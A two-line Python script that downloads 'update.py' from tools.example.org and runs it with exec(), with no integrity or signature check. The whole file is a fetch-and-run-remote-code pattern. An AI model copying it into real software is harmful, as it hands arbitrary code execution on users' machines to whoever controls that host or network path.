import urllib.request

exec(urllib.request.urlopen("https://tools.example.org/update.py", timeout=5).read())
